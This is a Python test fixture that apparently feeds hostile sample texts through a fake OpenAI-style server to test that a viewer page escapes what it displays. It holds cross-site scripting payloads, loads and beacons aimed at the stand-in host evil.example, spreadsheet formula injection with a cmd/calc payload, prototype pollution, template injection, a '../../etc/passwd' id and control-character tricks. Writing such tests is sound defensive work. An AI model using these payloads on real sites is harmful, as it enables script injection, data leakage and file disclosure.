"""Texts that attack a page which shows them, in every place that a text can come from.

Where one of them runs, ``window.hacked`` is set; where one loads, it asks ``evil.example``.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from support.fake_openai import Reply

if TYPE_CHECKING:
    from collections.abc import Iterator

    from support.fake_openai import Received

SET = "window.hacked=1"
EVIL = "https://evil.example"
_SVG = f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{SET}'/>"

SHORT = {
    "script": f"<script>{SET}</script>",
    "closed": f"</script><script>{SET}</script>",
    "closed-oddly": f"</SCRIPT\t><script src={EVIL}/a.js></script>",
    "handler": f'<img src=x onerror="{SET}">',
    "quoted": f"\"'><svg onload={SET}>",
    "frame": f"<iframe srcdoc='<script>parent.{SET}</script>'></iframe>",
    "object": f"<object data={EVIL}/o></object><embed src={EVIL}/e>",
    "form": f"<form action={EVIL}><button autofocus onfocus={SET}>x</button></form>",
    "style": f"<style>*{{display:none}} @import '{EVIL}/a.css';</style>",
    "link": f"<link rel=stylesheet href={EVIL}/a.css><base href={EVIL}/>",
    "meta": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "css": f"</style>body{{background:url({EVIL}/a.png)}}",
    "markdown-link": f"[click](javascript:{SET}) [c](data:text/html,<script>{SET}</script>)",
    "markdown-image": f"![pixel]({EVIL}/pixel.png) ![i][r]\n\n[r]: {EVIL}/r.png",
    "markdown-html": f"**b** <a href='javascript:{SET}'>x</a> <img src={EVIL}/b.png> `<b>`",
    "markdown-auto": f"<{EVIL}/auto> <javascript:{SET}> {EVIL}/bare",
    "comment": "<!-- <script> --> <!--<script>",
    "cdata": "<![CDATA[ x ]]> ]]>",
    "template": "{{constructor.constructor('" + SET + "')()}} ${" + SET + "}",
    "bidi": "abc \u202egnp.exe\u2066 \u2067right\u202c \u200f\u200e\ufeff\u200b end",
    "separators": "one\u2028two\u2029three\u0085four",
    "nul": "a\x00b\x1b[31mc\x07\x08\x7f",
    "surrogates": "half \ud83d of \ude00 an emoji",
    "combining": "Z" + "\u0301\u0334\u0358" * 60,
    "formula": f'=HYPERLINK("{EVIL}","x")',
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "csv": 'a","b\r\nc;\td',
    "proto": '{"__proto__": {"hacked": 1}}',
    "entity": "&lt;b&gt; &amp;lt; &#60;script&#62;",
}
LONG = {
    "long-line": "<b>x</b>" * 131_072,
    "long-word": "x" * 1_048_576,
    "emoji": "👩‍👩‍👧‍👦" * 10_000,
    "many-lines": "<i>\n" * 50_000,
    "deep-markdown": "> " * 5_000 + "x\n" + "*" * 5_000 + "[" * 5_000,
}
IDS = (
    *("constructor", "__proto__", "toString", "hasOwnProperty", "then", "0", "-1"),
    *(f"</script><script>{SET}</script>", f"<img src=x onerror={SET}>"),
    *("a&b=c#d?e%20f%zz", "\u202eid", "id with 'quotes' \"and\" `more`", "../../etc/passwd"),
)
MODEL = f"<img src=x onerror={SET}>"
NAME = f"</title><script>{SET}</script>"


def hostile_samples() -> Iterator[dict[str, Any]]:
    """One of each text, in question, expected answer, tag and metadata; then ids of all kinds."""
    for name, said in SHORT.items():
        text = name if name == "surrogates" else said  # no dataset takes half a character
        yield {
            "id": name,
            "messages": _messages(name, text),
            "expected": text,
            "tags": [text],
            "metadata": {text: text, "value": text, "__proto__": {"hacked": 1}, "constructor": 1},
        }
    for name, text in LONG.items():
        yield {"id": name, "messages": _messages(name, text), "expected": text}
    for number, name in enumerate(IDS):
        yield {"id": name, "messages": [{"role": "user", "content": f"id {number}"}]}


def _messages(name: str, text: str) -> list[dict[str, Any]]:
    image = {"type": "image_url", "image_url": {"url": f"{EVIL}/{name}.png"}}
    drawn = {"type": "image_url", "image_url": {"url": _SVG}}
    return [
        {"role": "system", "content": text},
        {"role": "user", "content": [{"type": "text", "text": text}, image, drawn]},
        {"role": "user", "content": name},
    ]


def attack(received: Received, _: int) -> Reply:
    """Gives the text back in every place of an answer; to the first model as an error."""
    name = received.question
    text = SHORT.get(name) or LONG.get(name) or f"answer to {name}"
    if received.body["model"] == "errs":
        return Reply(status=400, text=text, extra={"type": text[:100], "code": text[:100]})
    call = {"name": text[:200], "arguments": text}
    return Reply(
        text=text,
        message={
            "reasoning_content": text,
            "tool_calls": [{"id": "call", "type": "function", "function": call}],
            "refusal": text if name in {"script", "markdown-image"} else None,
        },
        headers={"x-request-id": "<b>id</b>"},
    )
